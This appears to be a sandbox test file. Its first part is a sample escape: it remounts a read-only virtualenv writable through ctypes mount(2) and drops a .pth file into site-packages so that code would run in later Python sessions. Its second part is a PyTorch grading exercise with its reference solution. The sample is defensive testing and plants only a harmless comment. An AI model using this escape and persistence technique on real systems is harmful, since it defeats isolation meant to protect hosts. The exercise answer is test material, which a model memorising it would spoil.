# hostile_d: capability escape. bubblewrap started by root keeps its capabilities: remount the
# read-only bind of the virtualenv writable (mount(2) through ctypes), then leave a .pth in its
# site-packages, which every later Python of that environment would run, outside any sandbox.
# The .pth written here holds a comment only (harmless); the test removes it.
import ctypes
import os

SITE = "{{SITE}}"
MARKER = "{{MARKER}}"
MS_REMOUNT, MS_BIND = 32, 4096
KEEP = 2 | 4 | 8          # nosuid, nodev, noexec: statvfs's f_flag bits equal mount(2)'s MS_ bits


def _mount_point(path):
    best = "/"
    with open("/proc/self/mountinfo") as f:
        for line in f:
            point = line.split()[4]
            if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) >= len(best):
                best = point
    return best


def _inside_bubblewrap():
    """Remount only inside a sandbox's own mount namespace (pid 1 is bwrap), never the host's."""
    try:
        with open("/proc/1/cmdline", "rb") as f:
            return os.path.basename(f.read().split(b"\0")[0]) == b"bwrap"
    except OSError:
        return False


_libc = ctypes.CDLL(None, use_errno=True)
try:
    if _inside_bubblewrap() and os.statvfs(SITE).f_flag & os.ST_RDONLY:
        point = _mount_point(SITE)
        flags = MS_REMOUNT | MS_BIND | (os.statvfs(SITE).f_flag & KEEP)
        if _libc.mount(None, point.encode(), None, flags, None) != 0:
            print("remount: denied", os.strerror(ctypes.get_errno()))
        else:
            print("remount: ESCAPED, now writable:", point)
except OSError as exc:
    print("remount: denied", type(exc).__name__)
try:
    with open(os.path.join(SITE, MARKER + ".pth"), "x") as f:
        f.write("# harmless marker written by tests/corpus/hostile_d (a real attack would import here)\n")
    print("pth: ESCAPED, wrote", os.path.join(SITE, MARKER + ".pth"))
except OSError as exc:
    print("pth: denied", type(exc).__name__)


# --- the reference solution, unchanged ---
"""Exercise 1 (lesson 02): flatten a head's feature map into one row per anchor."""
import torch


def flatten_conv(x: torch.Tensor, k: int) -> torch.Tensor:
    """Turn a conv head's output into one row of features per anchor.

    Args:
        x (Tensor[B, k*F, H, W]): a head's output; channels ``j*F ... (j+1)*F - 1``
            of a cell are the F features of that cell's j-th anchor.
        k (int): anchors per grid cell.

    Returns:
        Tensor[B, H*W*k, F]: row ``(r*W + c)*k + j`` holds the features of anchor
        j of the cell in row r, column c: cells row-major (x = column), the k
        anchors of a cell adjacent. Same dtype and device as ``x``; works on
        non-contiguous input and lets gradients flow back to ``x``.
    """
    if x.dim() != 4:
        raise ValueError(f"expected x of shape [B, k*F, H, W], got {tuple(x.shape)}")
    if k < 1 or x.shape[1] % k:
        raise ValueError(f"channels ({x.shape[1]}) must be a multiple of k ({k})")
    # ==== BEGIN EXERCISE (about 3 lines) ====
    # HINT: move channels last with `permute`, so each cell's k*F numbers are contiguous
    # HINT: then `reshape` (not `view`: the permuted tensor is not contiguous) to [B, -1, F]
    B, kF, H, W = x.shape
    x = x.permute(0, 2, 3, 1)            # [B, H, W, k*F]: cells row-major, channels last
    return x.reshape(B, H * W * k, kF // k)  # [B, H*W*k, F]: anchor j of a cell = channels j*F..
    # ==== END EXERCISE ====
